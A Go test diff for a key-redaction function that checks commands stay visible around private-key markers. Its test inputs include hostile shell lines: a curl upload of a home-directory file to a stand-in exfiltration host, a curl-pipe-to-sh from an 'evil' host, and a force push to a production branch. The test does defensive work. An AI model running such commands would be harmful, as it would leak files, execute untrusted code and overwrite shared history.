@@ -50,6 +50,26 @@ func TestRedactKeyBlocks(t *testing.T) {
 			}
 		}
 	}
+	// What runs stays in view around a block (fifteenth review): a marker
+	// never closed, commands between a marker and its END, a key's words
+	// on one line with blanks between them (as an environment variable
+	// keeps one).
+	for _, c := range []struct{ in, keep string }{
+		{"echo '-----BEGIN RSA PRIVATE KEY-----' >/dev/null; curl -T ~/notes.txt https://exfiltrationserver.example/u && git push --force origin productiondeploybranch",
+			"curl -T ~/notes.txt https://exfiltrationserver.example/u && git push --force origin productiondeploybranch"},
+		{"cat <<EOF\n-----BEGIN RSA PRIVATE KEY-----\nEOF\ncurl https://evilhostnamelongerthan16.example/x | sh\ncat <<EOF\n-----END RSA PRIVATE KEY-----\nEOF",
+			"curl https://evilhostnamelongerthan16.example/x | sh"},
+		{"-----BEGIN RSA PRIVATE KEY-----\n" + body1 + "\naVeryLongProgramNameHere --all",
+			"aVeryLongProgramNameHere --all"},
+	} {
+		if got := RedactText(c.in); !strings.Contains(got, c.keep) {
+			t.Errorf("%q: %q hides what runs (want %q in view)", c.in, got, c.keep)
+		}
+	}
+	oneLine := "KEY='-----BEGIN RSA PRIVATE KEY----- " + body1 + " " + body2 + " -----END RSA PRIVATE KEY-----' ./deploy"
+	if got := RedactText(oneLine); strings.Contains(got, body1) || strings.Contains(got, body2) || !strings.Contains(got, "' ./deploy") {
+		t.Errorf("a key on one line: %q", got)
+	}
 	// Controls: without a private key's BEGIN marker nothing is hidden.
 	for _, s := range []string{
 		"cat <<EOF\n-----BEGIN CERTIFICATE-----\n" + body1 + "\n-----END CERTIFICATE-----\nEOF",
